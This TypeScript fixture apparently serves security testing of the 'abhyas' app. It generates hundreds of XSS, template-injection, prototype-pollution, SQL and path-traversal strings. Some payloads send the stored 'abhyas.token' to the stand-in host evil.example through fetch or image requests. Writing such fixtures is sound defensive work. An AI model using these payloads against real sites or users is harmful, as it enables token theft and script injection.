/**
 * Several hundred texts that would run code, leave a frame of HTML or break a layout if anything took them as more
 * than text. Each tries to open a dialog or to send the token away.
 */
const SCRIPTS = [
  'alert(1)',
  'confirm(document.cookie)',
  "fetch('https://evil.example/?t='+localStorage.getItem('abhyas.token'))",
  "new Image().src='//evil.example/'+localStorage['abhyas.token']",
];

const ELEMENTS: readonly ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `"><script>${script}</script>`,
  (script) => `</textarea><script>${script}</script>`,
  (script) => `</script><script>${script}</script>`,
  (script) => `</title><script>${script}</script>`,
  (script) => `<scr<script>ipt>${script}</scr</script>ipt>`,
  (script) => `<SCRIPT SRC=data:text/javascript,${encodeURIComponent(script)}></SCRIPT>`,
  (script) => `<img src=x onerror="${script}">`,
  (script) => `<img src=x:x onerror=${script}//`,
  (script) => `'"><img src=x onerror=${script}>`,
  (script) => `<svg onload="${script}">`,
  (script) => `<svg><animate onbegin="${script}" attributeName=x dur=1s>`,
  (script) => `<svg><script>${script}</script></svg>`,
  (script) => `<math><mtext><script>${script}</script></mtext></math>`,
  (script) => `<body onload="${script}">`,
  (script) => `<input autofocus onfocus="${script}">`,
  (script) => `<details open ontoggle="${script}">x</details>`,
  (script) => `<video><source onerror="${script}"></video>`,
  (script) => `<audio src=x onerror="${script}">`,
  (script) => `<iframe src="javascript:${script}"></iframe>`,
  (script) => `<iframe srcdoc="<script>parent.${script}</script>"></iframe>`,
  (script) => `<object data="javascript:${script}"></object>`,
  (script) => `<embed src="data:text/html,<script>${script}</script>">`,
  (script) => `<form action="javascript:${script}"><button>x</button></form>`,
  (script) => `<button formaction="javascript:${script}">x</button>`,
  (script) => `<a href="javascript:${script}">x</a>`,
  (script) => `<a href="java\tscript:${script}">x</a>`,
  (script) => `<a href=" &#106;avascript:${script}">x</a>`,
  (script) => `<base href="https://evil.example/"><script>${script}</script>`,
  (script) => `<link rel=stylesheet href="https://evil.example/x.css"><script>${script}</script>`,
  (script) => `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  (script) => `<style>*{background:url("javascript:${script}")}</style>`,
  (script) => `<div style="background:url(javascript:${script})">x</div>`,
  (script) => `<marquee onstart="${script}">x</marquee>`,
  (script) => `<select autofocus onfocus="${script}"><option>x</select>`,
  (script) => `<template><script>${script}</script></template>`,
  (script) => `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  (script) => `<!--><script>${script}</script>-->`,
  (script) => `<![CDATA[<script>${script}</script>]]>`,
  (script) => `<p onpointerenter="${script}" style="position:fixed;inset:0">x</p>`,
];

const TEXTS: readonly ((script: string) => string)[] = [
  (script) => `javascript:${script}`,
  (script) => `JaVaScRiPt:${script}`,
  (script) => `data:text/html,<script>${script}</script>`,
  (script) => `vbscript:${script}`,
  (script) => `[x](javascript:${script})`,
  (script) => `![x](javascript:${script})`,
  (script) => `[x]: javascript:${script}`,
  (script) => `<javascript:${script}>`,
  (script) => `\`</code><script>${script}</script>\``,
  (script) => '```\n</code></pre><script>' + script + '</script>\n```',
  (script) => `https://x.example/"onmouseover="${script}`,
  (script) => `https://x.example/'><script>${script}</script>`,
  (script) => `http://javascript:${script}@x.example`,
  (script) => `{{constructor.constructor("${script}")()}}`,
  (script) => `\${${script}}`,
  (script) => `#{${script}}`,
  (script) => `<%= ${script} %>`,
  (script) => `{{7*7}}{% ${script} %}`,
  (script) => `__proto__[onload]=${script}`,
  (script) => `{"__proto__":{"innerHTML":"<img src=x onerror=${script}>"}}`,
  (script) => `{"dangerouslySetInnerHTML":{"__html":"<script>${script}</script>"}}`,
  (script) => `';${script};//`,
  (script) => `";${script};//`,
  (script) => `\\";${script};//`,
  (script) => `*/${script}/*`,
  (script) => `</style><script>${script}</script>`,
  (script) => `&lt;script&gt;${script}&lt;/script&gt;`,
  (script) => `&#60;script&#62;${script}&#60;/script&#62;`,
  (script) => `\\u003cscript\\u003e${script}\\u003c/script\\u003e`,
  (script) => `%3Cscript%3E${script}%3C/script%3E`,
  (script) => `+ADw-script+AD4-${script}+ADw-/script+AD4-`,
  (script) => `＜script＞${script}＜/script＞`,
  (script) => `‮<script>${script}</script>‬`,
  (script) => `<\u0000script>${script}</\u0000script>`,
  (script) => `<img src=x onerror=${script}>${'\u0301'.repeat(20)}`,
  (script) => `'; drop table comment; -- ${script}`,
  (script) => `\u001b]8;;javascript:${script}\u0007x\u001b]8;;\u0007`,
  (script) => `=HYPERLINK("javascript:${script}")`,
];

const ODD = [
  'x'.repeat(400),
  'ऐसा'.repeat(100),
  '👩‍👩‍👧‍👦'.repeat(40),
  '\u200b\u200b\u200b.',
  'NaN null undefined [object Object]',
  '../../../etc/passwd',
  '%s%s%n',
  '{name} {title} {count}',
];

/** Each of them, a few hundred. */
export const HOSTILE: readonly string[] = [
  ...SCRIPTS.flatMap((script) => [...ELEMENTS, ...TEXTS].map((make) => make(script))),
  ...ODD,
];

/** Those short enough for a name. */
export const HOSTILE_NAMES: readonly string[] = [...ELEMENTS, ...TEXTS]
  .map((make) => make('alert(1)'))
  .filter((text) => text.length <= 80 && !/\p{Cc}/u.test(text));

/** Texts joined by blank lines, none longer than `max`, so that a few messages carry hundreds. */
export function bundles(strings: readonly string[], max: number): string[] {
  const found: string[] = [];
  for (const text of strings) {
    const joined = `${found.at(-1) ?? ''}\n\n${text}`;
    if (found.length > 0 && joined.length <= max) found[found.length - 1] = joined;
    else found.push(text);
  }
  return found;
}
